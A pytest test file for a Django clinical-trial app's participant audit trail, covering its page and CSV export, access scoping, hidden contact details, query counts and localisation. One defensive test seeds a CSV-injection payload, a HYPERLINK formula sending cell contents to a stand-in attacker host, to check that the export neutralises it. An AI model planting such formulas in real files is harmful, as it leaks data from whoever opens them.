"""The participant's audit trail (issue 23, item 1): one page and one CSV listing, in time
order, every change to the participant and their records, with when (at the site and in UTC),
who (a staff user, the participant through a link, the system), what (field: before → after)
and why; read-only, scoped like the participant's page, in a fixed number of queries."""

import csv
import datetime
import io
import re
import time

import pytest
from django.urls import reverse

from participants.contact_log import record_contact_attempt
from participants.lifecycle import record_transition, set_reminders
from participants.models import Status
from scheduling.mail.dispatch import dispatch_due
from scheduling.models import Audience, LinkAction, OutboxStatus, Reminder, ReminderRule, Visit
from scheduling.replies.answers import answer_by_link, link_token
from scheduling.timeline.appointments import book_appointment
from scheduling.timeline.visits import record_visit
from scheduling.workspace.audit_trail import AUDIT_COLUMNS, PARTICIPANT_THROUGH_LINK, SYSTEM
from tests.browser import login
from tests.factories import enrol
from tests.smtp_server import smtp_server_fixture  # noqa: F401

pytestmark = pytest.mark.django_db

UTC = datetime.UTC
CONSENT = datetime.date(2026, 1, 5)
CREATED = datetime.datetime(2026, 1, 20, 20, 0, tzinfo=UTC)  # 12:00 PST in Oceanside
LEUK_REMINDER_DUE = datetime.datetime(2026, 2, 2, 17, 0, tzinfo=UTC)  # 09:00 PST
BOOKED = datetime.datetime(2026, 2, 3, 18, 0, tzinfo=UTC)
DONE = datetime.datetime(2026, 2, 11, 22, 0, tzinfo=UTC)
# 23:25 on 2026-02-12 in Oceanside is already 2026-02-13 in UTC.
WITHDRAWN = datetime.datetime(2026, 2, 13, 7, 25, tzinfo=UTC)


def trail_url(participant, csv_file=False):
    name = "admin:participant_audit_trail_csv" if csv_file else "admin:participant_audit_trail"
    return reverse(name, args=[participant.pk])


@pytest.fixture
def life(make_participant, staff, site_ocn, site_ber, smtp_server, time_machine):
    """An OCN participant's trial so far, each step through its service and by its author:
    created by the coordinator, answers and enrolment by the investigator, a phone call
    logged, the leukapheresis reminder sent, confirmed through its link by the participant,
    the visit moved to another day (its reminders for the old day cancelled) and done, then a
    withdrawal late in the Californian evening."""
    ReminderRule.objects.filter(audience=Audience.COORDINATOR_DIGEST).update(active=False)
    coordinator, investigator = staff["coordinator-ocn"], staff["investigator-ocn"]
    time_machine.move_to(CREATED, tick=False)
    participant = make_participant(consent_date=CONSENT, by=coordinator)
    time_machine.move_to(CREATED + datetime.timedelta(hours=1), tick=False)
    enrol(participant, on=datetime.date(2026, 1, 20), by=investigator)
    time_machine.move_to(CREATED + datetime.timedelta(hours=2), tick=False)
    record_contact_attempt(
        participant, channel="phone", outcome="no_answer", note="Rang about LEUK", by=coordinator
    )
    time_machine.move_to(LEUK_REMINDER_DUE, tick=False)
    dispatch_due()
    sent = Reminder.objects.get(visit__participant=participant, status=OutboxStatus.SENT)
    time_machine.move_to(LEUK_REMINDER_DUE + datetime.timedelta(hours=2), tick=False)
    answer_by_link(link_token(sent, LinkAction.CONFIRM), LinkAction.CONFIRM)
    time_machine.move_to(BOOKED, tick=False)
    leuk = Visit.objects.get(participant=participant, code="LEUK")
    book_appointment(leuk, on=datetime.date(2026, 2, 11), by=coordinator)
    time_machine.move_to(DONE, tick=False)
    record_visit(participant, "LEUK", on=datetime.date(2026, 2, 11), by=coordinator)
    time_machine.move_to(WITHDRAWN, tick=False)
    record_transition(
        participant,
        Status.WITHDRAWN,
        on=datetime.date(2026, 2, 12),
        reason="Moved abroad",
        by=coordinator,
    )
    participant.refresh_from_db()
    return participant


def entries_of(response):
    assert response.status_code == 200
    return response.context["entries"]


def find(entries, record, field=None, after=None):
    """The entries of ``record`` (a prefix) with a change of ``field`` to ``after``."""
    return [
        e
        for e in entries
        if e.record.startswith(record)
        and (
            field is None
            or any(c.field == field and (after is None or c.after == after) for c in e.changes)
        )
    ]


def test_the_trail_lists_every_kind_of_change_with_who_when_what_and_why(client, staff, life):
    client.force_login(staff["coordinator-ocn"])
    entries = entries_of(client.get(trail_url(life)))

    # Oldest first, whatever the record.
    assert [e.at for e in entries] == sorted(e.at for e in entries)

    (created,) = find(entries, "Participant", "Subject id", life.subject_id)
    assert (created.who, created.event, created.why) == (
        "coordinator-ocn",
        "created",
        "Consented and entered screening",
    )
    assert (created.local, created.utc) == ("2026-01-20 12:00 PST", "2026-01-20 20:00 UTC")

    (answer, *_) = find(entries, "Eligibility: Inclusion 1", "Answer")
    assert answer.who == "investigator-ocn" and answer.why == "Answered"

    (enrolment,) = find(entries, "Lifecycle", "Status", "Enrolled")
    assert enrolment.who == "investigator-ocn"
    assert [(c.field, c.before, c.after) for c in enrolment.changes] == [
        ("Status", "Screening", "Enrolled"),
        ("Effective date", "—", "2026-01-20"),
    ]

    (call,) = find(entries, "Contact log")
    assert call.who == "coordinator-ocn" and call.why == "Rang about LEUK"
    assert {(c.field, c.after) for c in call.changes} >= {
        ("Channel", "Phone"),
        ("Outcome", "No answer"),
    }

    (sent,) = find(entries, "Reminder of visit LEUK", "Status", "Sent")
    assert sent.who == SYSTEM
    assert (sent.local, sent.utc) == ("2026-02-02 09:00 PST", "2026-02-02 17:00 UTC")

    (confirmed,) = find(entries, "Visit LEUK (Leukapheresis)", "Confirmation", "Confirmed")
    assert confirmed.who == PARTICIPANT_THROUGH_LINK
    assert "reminder link" in confirmed.why

    (booked,) = find(entries, "Visit LEUK", "Booked date", "2026-02-11")
    assert booked.who == "coordinator-ocn" and booked.why == "Booked on 2026-02-11 (admin)"
    (moved,) = find(entries, "Visit LEUK", "Appointment date", "2026-02-11")
    assert moved.who == "coordinator-ocn" and moved.at == BOOKED
    assert ("Appointment date", "2026-02-09", "2026-02-11") in [
        (c.field, c.before, c.after) for c in moved.changes
    ]
    (cancelled, *_) = find(entries, "Reminder of visit LEUK", "Status", "Cancelled")
    assert cancelled.who == SYSTEM and cancelled.why.startswith("no longer wanted")
    # A reminder cancelled by the booking is dated by it, not by the reminder's creation.
    assert cancelled.at == BOOKED

    (done,) = find(entries, "Visit LEUK", "Actual date", "2026-02-11")
    assert done.who == "coordinator-ocn" and done.local == "2026-02-11 14:00 PST"

    (withdrawal,) = find(entries, "Participant", "Status", "Withdrawn")
    assert withdrawal.who == "coordinator-ocn" and withdrawal.why == "Moved abroad"
    assert (withdrawal.local, withdrawal.utc) == ("2026-02-12 23:25 PST", "2026-02-13 07:25 UTC")
    assert ("Left on", "—", "2026-02-12") in [
        (c.field, c.before, c.after) for c in withdrawal.changes
    ]


def test_the_page_shows_the_trail_without_raw_ids_and_links_back(client, staff, life):
    client.force_login(staff["coordinator-ocn"])
    text = client.get(trail_url(life)).text
    assert "2026-02-12 23:25 PST" in text and "2026-02-13 07:25 UTC" in text
    assert "the participant, through a link" in text
    assert "Moved abroad" in text
    assert reverse("admin:participants_participant_change", args=[life.pk]) in text
    assert trail_url(life, csv_file=True) in text
    # Fields staff understand: no keys of other records, no field names of the database.
    assert not re.search(r"\b(site_id|participant_id|definition|_id)\b", text)


def test_the_participant_page_links_to_its_audit_trail(client, staff, life):
    client.force_login(staff["monitor"])
    page = client.get(reverse("admin:participants_participant_change", args=[life.pk])).text
    assert f'href="{trail_url(life)}"' in page


def test_contact_details_only_for_those_who_may_change_the_participant(client, staff, life):
    from participants.history import stamp

    life.email = "new.address@example.org"
    stamp(life, by=staff["coordinator-ocn"], reason="New address given by phone").save()
    client.force_login(staff["coordinator-ocn"])
    changed = [e for e in entries_of(client.get(trail_url(life))) if e.event == "changed"]
    (change,) = find(changed, "Participant", "Email")
    assert [(c.before, c.after) for c in change.changes if c.field == "Email"] == [
        ("participant@example.org", "new.address@example.org")
    ]
    client.force_login(staff["monitor"])
    response = client.get(trail_url(life))
    changed = [e for e in entries_of(response) if e.event == "changed"]
    (change,) = find(changed, "Participant", "Email")
    assert change.why == "New address given by phone"
    assert [(c.before, c.after) for c in change.changes] == [("(hidden)", "(hidden)")]
    (created,) = find(entries_of(response), "Participant", "Subject id")
    assert ("Email", "—", "(hidden)") in [(c.field, c.before, c.after) for c in created.changes]
    assert "example.org" not in response.text
    assert "example.org" not in client.get(trail_url(life, csv_file=True)).text


@pytest.mark.parametrize("csv_file", [False, True])
def test_the_trail_is_scoped_like_the_participant_page(client, staff, life, csv_file):
    from django.contrib.auth import get_user_model

    from participants.models import SiteMembership

    url = trail_url(life, csv_file)
    client.force_login(staff["coordinator-ber"])
    assert client.get(url).status_code == 404  # another site's participant does not exist
    client.force_login(staff["monitor"])
    assert client.get(url).status_code == 200  # every site, read-only
    client.force_login(staff["investigator-ocn"])
    assert client.get(url).status_code == 200
    client.force_login(staff["coordinator-ocn"])
    assert client.post(url).status_code == 405  # read-only: nothing is posted to it
    roleless = get_user_model().objects.create_user("no-role", is_staff=True)
    SiteMembership.objects.create(user=roleless, site=life.site)
    client.force_login(roleless)
    assert client.get(url).status_code == 403  # at the site, but no role to read it
    client.logout()
    assert client.get(url).status_code == 302  # to the login page


def test_the_csv_has_a_line_per_changed_field_in_time_order(client, staff, life):
    client.force_login(staff["monitor"])
    response = client.get(trail_url(life, csv_file=True))
    assert response["Content-Type"] == "text/csv"
    assert f'filename="audit-trail-{life.subject_id}.csv"' in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert list(rows[0]) == AUDIT_COLUMNS
    assert rows[0]["record"] == "Participant" and rows[0]["event"] == "created"
    assert [r["when_utc"] for r in rows] == sorted(r["when_utc"] for r in rows)
    assert {
        "subject_id": life.subject_id,
        "site": "OCN",
        "when_local": "2026-02-12 23:25 PST",
        "when_utc": "2026-02-13 07:25 UTC",
        "who": "coordinator-ocn",
        "record": "Participant",
        "event": "changed",
        "field": "Status",
        "before": "Enrolled",
        "after": "Withdrawn",
        "why": "Moved abroad",
    } in rows
    assert any(r["who"] == PARTICIPANT_THROUGH_LINK and r["field"] == "Confirmation" for r in rows)


def test_the_csv_writes_no_cell_a_spreadsheet_would_run(client, staff, life):
    record_contact_attempt(
        life,
        channel="phone",
        outcome="reached",
        note='=HYPERLINK("http://ev.il/?"&A2)',
        by=staff["coordinator-ocn"],
    )
    client.force_login(staff["monitor"])
    rows = list(csv.reader(io.StringIO(client.get(trail_url(life, True)).content.decode())))
    # The note is the "why" of each of the attempt's lines (when, channel, outcome).
    assert {"'" + '=HYPERLINK("http://ev.il/?"&A2)'} == {
        cell for row in rows for cell in row if "HYPERLINK" in cell
    }
    assert not [cell for row in rows[1:] for cell in row if cell.startswith(("=", "+", "@"))]


# The session, the user and their permissions and sites, the participant with their site, then
# one query per kind of record (and the sites, protocols and phases their values name); 19:
# the versions taken up and those activated at the site (issue 24).
QUERIES = 19


def history_entries(participant, toggles: int, calls: int, by):
    for number in range(toggles):
        set_reminders(participant, number % 2 == 1, reason=f"toggle {number}", by=by)
    for number in range(calls):
        record_contact_attempt(
            participant, channel="phone", outcome="no_answer", note=f"call {number}", by=by
        )


def test_the_trail_takes_as_many_queries_for_years_of_history_as_for_a_few_entries(
    client, staff, make_participant, django_assert_num_queries, site_ocn
):
    coordinator = staff["coordinator-ocn"]
    short = make_participant(by=coordinator)
    long = make_participant(by=coordinator)
    enrol(short, on=datetime.date(2026, 1, 20))
    enrol(long, on=datetime.date(2026, 1, 20))
    history_entries(long, toggles=100, calls=400, by=coordinator)
    client.force_login(staff["monitor"])
    short_count = len(entries_of(client.get(trail_url(short))))
    long_count = len(entries_of(client.get(trail_url(long))))
    assert short_count < 100 and long_count >= short_count + 500
    for participant in (short, long):
        with django_assert_num_queries(QUERIES):
            client.get(trail_url(participant))
        with django_assert_num_queries(QUERIES):
            client.get(trail_url(participant, csv_file=True))
    started = time.perf_counter()
    client.get(trail_url(long))
    # A guard against a quadratic read, far above what it takes (about 0.3 s here).
    assert time.perf_counter() - started < 5


@pytest.mark.slow
@pytest.mark.django_db(transaction=True)
def test_a_monitor_opens_the_audit_trail_from_the_participant_page(
    browser, live_server, make_participant, staff, site_ocn
):
    participant = make_participant(by=staff["coordinator-ocn"])
    record_contact_attempt(
        participant,
        channel="letter",
        outcome="no_answer",
        note="Letter sent",
        by=staff["coordinator-ocn"],
    )
    page = login(browser, live_server, "monitor")
    problems = []  # console errors, CSP violations included
    page.on("console", lambda m: problems.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda error: problems.append(str(error)))
    page.goto(f"{live_server.url}/admin/participants/participant/{participant.pk}/change/")
    page.click(".object-tools a.audit-trail-link")
    page.wait_for_selector("table#audit-trail")
    assert page.url.endswith(f"/participant/{participant.pk}/audit-trail/")
    table = page.locator("table#audit-trail").inner_text()
    assert "coordinator-ocn" in table and "Letter sent" in table and "Contact log" in table
    assert page.locator("tr[data-kind='visit']").count() >= 1
    assert problems == []
    page.close()


def test_a_failed_reminder_shows_the_server_s_answer_without_the_address(
    client, staff, make_participant, smtp_server, time_machine
):
    ReminderRule.objects.filter(audience=Audience.COORDINATOR_DIGEST).update(active=False)
    time_machine.move_to(CREATED, tick=False)
    participant = make_participant(
        consent_date=CONSENT, email="gone@example.org", by=staff["coordinator-ocn"]
    )
    smtp_server.handler.refuse_rcpt = "550 5.1.1 <gone@example.org>: Mailbox unavailable"
    time_machine.move_to(LEUK_REMINDER_DUE, tick=False)
    dispatch_due()
    client.force_login(staff["coordinator-ocn"])
    response = client.get(trail_url(participant))
    (failed,) = find(entries_of(response), "Reminder of visit LEUK", "Status", "Failed")
    assert failed.who == SYSTEM and failed.utc == "2026-02-02 17:00 UTC"
    assert "Mailbox unavailable" in failed.why and "[address]" in failed.why
    assert "gone@example.org" not in failed.why


def test_the_trail_reads_in_the_staff_language_and_its_csv_stays_english(client, staff, life):
    # Issue 23: the workspace in the staff's language; an export is read by others and by
    # tools, so it is written in English whatever the reader's language.
    client.force_login(staff["monitor"])
    page = client.get(trail_url(life), HTTP_ACCEPT_LANGUAGE="de")
    html = page.content.decode()
    assert "Wer" in html and "Warum" in html and "Was sich geändert hat" in html
    entries = page.context["entries"]
    assert any(e.who == "die teilnehmende Person, über einen Link" for e in entries)
    assert any(e.record == "Teilnehmende Person" or e.event == "angelegt" for e in entries)
    rows = list(
        csv.DictReader(
            io.StringIO(
                client.get(
                    trail_url(life, csv_file=True), HTTP_ACCEPT_LANGUAGE="de"
                ).content.decode()
            )
        )
    )
    assert rows[0]["record"] == "Participant" and rows[0]["event"] == "created"
    assert any(r["who"] == "the participant, through a link" for r in rows)
